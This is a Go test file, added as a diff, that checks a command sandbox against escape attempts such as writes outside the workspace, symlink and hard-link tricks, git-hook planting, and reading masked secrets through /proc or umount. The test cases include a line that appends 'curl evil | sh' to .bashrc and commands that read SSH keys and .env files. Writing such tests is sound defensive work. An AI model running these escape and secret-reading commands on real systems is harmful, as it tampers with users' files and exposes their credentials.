@@ -1,0 +1,279 @@
+package confine_test
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"golang.org/x/sys/unix"
+)
+
+// Every escape below runs twice: confined, where the kernel must stop it,
+// and unconfined, where it must succeed (where the mechanism is not one
+// `sandbox: off` keeps too), which shows the test would notice an escape.
+
+// arena is a box with a directory beside W and T that the command must not
+// change, and files in it.
+type arena struct {
+	box
+	out string // outside W and T
+}
+
+func newArena(t *testing.T) arena {
+	t.Helper()
+	b := newBox(t)
+	a := arena{box: b, out: filepath.Join(filepath.Dir(b.root), "outside")}
+	require.NoError(t, os.MkdirAll(filepath.Join(a.out, "home"), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(a.out, "file"), []byte("original\n"), 0o644))
+	require.NoError(t, os.WriteFile(filepath.Join(a.out, "home", ".bashrc"), []byte("# rc\n"), 0o644))
+	return a
+}
+
+func (a arena) expand(s string) string {
+	q := func(p string) string { return "'" + p + "'" }
+	return strings.NewReplacer("$OUT", q(a.out), "$W", q(a.root), "$T", q(a.temp)).Replace(s)
+}
+
+func (a arena) read(t *testing.T, rel string) string {
+	b, err := os.ReadFile(filepath.Join(a.out, rel))
+	if err != nil {
+		return "<" + err.Error() + ">"
+	}
+	return string(b)
+}
+
+func (a arena) exists(rel string) bool {
+	_, err := os.Lstat(filepath.Join(a.out, rel))
+	return err == nil
+}
+
+func TestWritesOutsideAreRefused(t *testing.T) {
+	t.Parallel()
+	cases := []struct {
+		name    string
+		script  string
+		escaped func(t *testing.T, a arena) bool
+	}{
+		{"relative path through ..", "echo pwned > ../outside/new",
+			func(t *testing.T, a arena) bool { return a.exists("new") }},
+		{"absolute path", "echo pwned > $OUT/new",
+			func(t *testing.T, a arena) bool { return a.exists("new") }},
+		{"overwrite through a symlink", "ln -s $OUT/file link && echo pwned > link",
+			func(t *testing.T, a arena) bool { return a.read(t, "file") != "original\n" }},
+		{"symlink planted outside", "ln -s /etc/passwd $OUT/planted",
+			func(t *testing.T, a arena) bool { return a.exists("planted") }},
+		{"append through a hard link", "ln $OUT/file hard && echo pwned >> hard",
+			func(t *testing.T, a arena) bool { return a.read(t, "file") != "original\n" }},
+		{"mv a file out", "echo pwned > mine && mv mine $OUT/moved",
+			func(t *testing.T, a arena) bool { return a.exists("moved") }},
+		{"mv a file in, deleting it outside", "mv $OUT/file stolen",
+			func(t *testing.T, a arena) bool { return !a.exists("file") }},
+		{"rm outside", "rm -f $OUT/file",
+			func(t *testing.T, a arena) bool { return !a.exists("file") }},
+		{"truncate outside", ": > $OUT/file",
+			func(t *testing.T, a arena) bool { return a.read(t, "file") != "original\n" }},
+		{"chmod outside", "chmod 0777 $OUT/file",
+			func(t *testing.T, a arena) bool {
+				fi, err := os.Stat(filepath.Join(a.out, "file"))
+				return err == nil && fi.Mode().Perm() == 0o777
+			}},
+		{"touch -d outside", "touch -d 2001-02-03 $OUT/file",
+			func(t *testing.T, a arena) bool {
+				fi, err := os.Stat(filepath.Join(a.out, "file"))
+				return err == nil && fi.ModTime().Year() == 2001
+			}},
+		{"mkdir outside", "mkdir $OUT/dir",
+			func(t *testing.T, a arena) bool { return a.exists("dir") }},
+		{"the user's home dotfile", "echo 'curl evil | sh' >> $OUT/home/.bashrc",
+			func(t *testing.T, a arena) bool { return a.read(t, "home/.bashrc") != "# rc\n" }},
+	}
+	for _, m := range modes {
+		for _, tc := range cases {
+			t.Run(m.name+"/"+tc.name, func(t *testing.T) {
+				t.Parallel()
+				needSandbox(t, m.sandbox)
+				a := newArena(t)
+				r := run(t, t.Context(), a.command(t, m.sandbox, a.expand(tc.script)))
+				if m.sandbox {
+					assert.False(t, tc.escaped(t, a), "escaped: %+v", r)
+					assert.NotZero(t, r.exit.Code, "the write fails visibly")
+					t.Log(r.stderr)
+				} else {
+					assert.True(t, tc.escaped(t, a), "the unconfined command should have succeeded: %+v", r)
+				}
+			})
+		}
+	}
+}
+
+// TestSharedTempDirsAreReadOnly writes where commands usually leave files:
+// the command's own TMPDIR (T) is the place for them.
+func TestSharedTempDirsAreReadOnly(t *testing.T) {
+	t.Parallel()
+	for _, m := range modes {
+		for _, dir := range []string{"/tmp", "/var/tmp", "/dev/shm"} {
+			t.Run(m.name+dir, func(t *testing.T) {
+				t.Parallel()
+				needSandbox(t, m.sandbox)
+				if _, err := os.Stat(dir); err != nil {
+					t.Skip(dir, " does not exist here")
+				}
+				a := newArena(t)
+				target := filepath.Join(dir, "agentspec-confine-"+filepath.Base(filepath.Dir(a.root)))
+				t.Cleanup(func() { os.Remove(target) })
+				r := run(t, t.Context(), a.command(t, m.sandbox, "echo pwned > "+target+"; echo ok > $TMPDIR/mine && cat $TMPDIR/mine"))
+				_, err := os.Stat(target)
+				assert.Equal(t, !m.sandbox, err == nil, "file created in %s: %+v", dir, r)
+				assert.Equal(t, "ok\n", r.stdout, "T is writable")
+			})
+		}
+	}
+}
+
+func TestWorkspaceAndTempAreWritable(t *testing.T) {
+	t.Parallel()
+	for _, m := range modes {
+		t.Run(m.name, func(t *testing.T) {
+			t.Parallel()
+			needSandbox(t, m.sandbox)
+			a := newArena(t)
+			r := run(t, t.Context(), a.command(t, m.sandbox, a.expand(
+				"mkdir -p d && echo a > d/f && mv d/f g && ln g h && ln -s g s && chmod 600 g && touch -d 2001-02-03 g && "+
+					"echo b > $T/x && mv $T/x y && echo c >> ~/.bashrc && cat g y ~/.bashrc && rm -r d")))
+			assert.Equal(t, "a\nb\nc\n", r.stdout, r.stderr)
+			assert.Zero(t, r.exit.Code)
+		})
+	}
+}
+
+func TestGitDirsAreReadOnly(t *testing.T) {
+	t.Parallel()
+	for _, m := range modes {
+		t.Run(m.name, func(t *testing.T) {
+			t.Parallel()
+			needSandbox(t, m.sandbox)
+			a := newArena(t)
+			gitDir := filepath.Join(a.root, "sub", ".git")
+			require.NoError(t, os.MkdirAll(filepath.Join(gitDir, "hooks"), 0o755))
+			require.NoError(t, os.WriteFile(filepath.Join(gitDir, "config"), []byte("[core]\n"), 0o644))
+			// A worktree's .git is a file.
+			require.NoError(t, os.WriteFile(filepath.Join(a.root, ".git"), []byte("gitdir: elsewhere\n"), 0o644))
+			c := a.command(t, m.sandbox, "cat sub/.git/config .git; "+
+				"echo '[core] hooksPath = /tmp' >> sub/.git/config; echo evil > sub/.git/hooks/pre-commit; "+
+				"echo 'gitdir: /tmp' > .git; mv sub/.git sub/git; echo ok > sub/other")
+			c.Policy.ReadOnly = []string{gitDir, filepath.Join(a.root, ".git")}
+			r := run(t, t.Context(), c)
+			assert.Equal(t, "[core]\ngitdir: elsewhere\n", r.stdout, "readable")
+			config, _ := os.ReadFile(filepath.Join(gitDir, "config"))
+			_, hookErr := os.Stat(filepath.Join(gitDir, "hooks", "pre-commit"))
+			dotGit, _ := os.ReadFile(filepath.Join(a.root, ".git"))
+			changed := string(config) != "[core]\n" || hookErr == nil || string(dotGit) != "gitdir: elsewhere\n"
+			assert.Equal(t, !m.sandbox, changed, "%+v", r)
+			other, _ := os.ReadFile(filepath.Join(a.root, "sub", "other"))
+			assert.Equal(t, "ok\n", string(other), "the rest of W stays writable")
+		})
+	}
+}
+
+func TestSecretsReadAsEmpty(t *testing.T) {
+	t.Parallel()
+	const secret = "hunter2"
+	cases := []struct{ name, script string }{
+		{"cat", "cat .env keys/id $OUT/home/.ssh/id_rsa"},
+		{"symlink", "ln -s .env l1 && ln -s $OUT/home/.ssh l2 && cat l1 l2/id_rsa"},
+		{"cp", "cp .env c1 && cp -r keys c2 && cat c1 c2/*"},
+		{"tar", "tar cf - .env keys $OUT/home/.ssh 2>/dev/null | tar xOf -"},
+		{"grep -r", "grep -r " + secret + " . $OUT/home"},
+		{"hard link", "ln .env h1; cat h1"},
+		{"proc root", "cat /proc/self/root$W/.env /proc/1/root$W/.env"},
+		{"umount the masks", "umount .env keys $OUT/home/.ssh; cat .env keys/id $OUT/home/.ssh/id_rsa"},
+		{"umount in a nested user namespace", "unshare -rm sh -c 'umount .env keys; cat .env keys/id'"},
+	}
+	for _, m := range modes {
+		for _, tc := range cases {
+			t.Run(m.name+"/"+tc.name, func(t *testing.T) {
+				t.Parallel()
+				needSandbox(t, m.sandbox)
+				a := newArena(t)
+				ssh := filepath.Join(a.out, "home", ".ssh")
+				require.NoError(t, os.MkdirAll(ssh, 0o700))
+				require.NoError(t, os.WriteFile(filepath.Join(ssh, "id_rsa"), []byte(secret+"\n"), 0o600))
+				require.NoError(t, os.WriteFile(filepath.Join(a.root, ".env"), []byte("KEY="+secret+"\n"), 0o600))
+				require.NoError(t, os.WriteFile(filepath.Join(a.root, ".env.example"), []byte("KEY=visible\n"), 0o644))
+				require.NoError(t, os.MkdirAll(filepath.Join(a.root, "keys"), 0o700))
+				require.NoError(t, os.WriteFile(filepath.Join(a.root, "keys", "id"), []byte(secret+"\n"), 0o600))
+				c := a.command(t, m.sandbox, a.expand(tc.script+"; cat .env.example"))
+				c.Policy.Masks = []string{filepath.Join(a.root, ".env"), filepath.Join(a.root, "keys"), ssh, filepath.Join(a.root, "gone")}
+				r := run(t, t.Context(), c)
+				assert.Equal(t, !m.sandbox, strings.Contains(r.stdout, secret), "%+v", r)
+				assert.Contains(t, r.stdout, "KEY=visible", "an unmasked file stays readable")
+			})
+		}
+	}
+}
+
+// TestLandlockIsInForce writes to a device the mounts leave writable
+// (/dev/urandom is bound from the host's /dev): only Landlock, which
+// grants writes to /dev/null, /dev/zero and /dev/full alone, refuses it.
+func TestLandlockIsInForce(t *testing.T) {
+	t.Parallel()
+	for _, m := range modes {
+		t.Run(m.name, func(t *testing.T) {
+			t.Parallel()
+			needSandbox(t, m.sandbox)
+			a := newArena(t)
+			r := run(t, t.Context(), a.command(t, m.sandbox, "echo x > /dev/urandom && echo wrote; echo x > /dev/null && echo null"))
+			if m.sandbox {
+				assert.Equal(t, "null\n", r.stdout)
+				assert.Contains(t, r.stderr, "Permission denied")
+			} else {
+				assert.Equal(t, "wrote\nnull\n", r.stdout)
+			}
+		})
+	}
+}
+
+// TestHostIPCIsInvisible: System V IPC objects of the host (here a shared
+// memory segment the test makes) are out of the command's sight.
+func TestHostIPCIsInvisible(t *testing.T) {
+	t.Parallel()
+	key := int(time.Now().UnixNano()&0x3fffffff) | 0x40000000
+	id, err := unix.SysvShmGet(key, 4096, unix.IPC_CREAT|0o600)
+	require.NoError(t, err)
+	t.Cleanup(func() { _, _ = unix.SysvShmCtl(id, unix.IPC_RMID, nil) })
+	for _, m := range modes {
+		t.Run(m.name, func(t *testing.T) {
+			t.Parallel()
+			needSandbox(t, m.sandbox)
+			a := newArena(t)
+			r := run(t, t.Context(), a.command(t, m.sandbox, "ipcs -m"))
+			assert.Equal(t, !m.sandbox, strings.Contains(r.stdout, fmt.Sprintf("0x%08x", key)), "%+v", r)
+		})
+	}
+}
+
+// TestRootThroughASymlink: W named through a symlink is still W (its
+// mount is found by its real name, so it stays writable) and its masks
+// and .git still apply.
+func TestRootThroughASymlink(t *testing.T) {
+	t.Parallel()
+	needSandbox(t, true)
+	a := newArena(t)
+	link := filepath.Join(a.out, "link-to-w")
+	require.NoError(t, os.Symlink(a.root, link))
+	require.NoError(t, os.WriteFile(filepath.Join(a.root, ".env"), []byte("hunter2\n"), 0o600))
+	require.NoError(t, os.Mkdir(filepath.Join(a.root, ".git"), 0o755))
+	c := a.command(t, true, "echo ok > new && cat new .env; echo x > .git/config")
+	c.Dir = link
+	c.Policy.Root = link
+	c.Policy.Masks = []string{filepath.Join(link, ".env")}
+	c.Policy.ReadOnly = []string{filepath.Join(link, ".git")}
+	r := run(t, t.Context(), c)
+	assert.Equal(t, "ok\n", r.stdout, "%+v", r)
+	assert.NoFileExists(t, filepath.Join(a.root, ".git", "config"))
+}
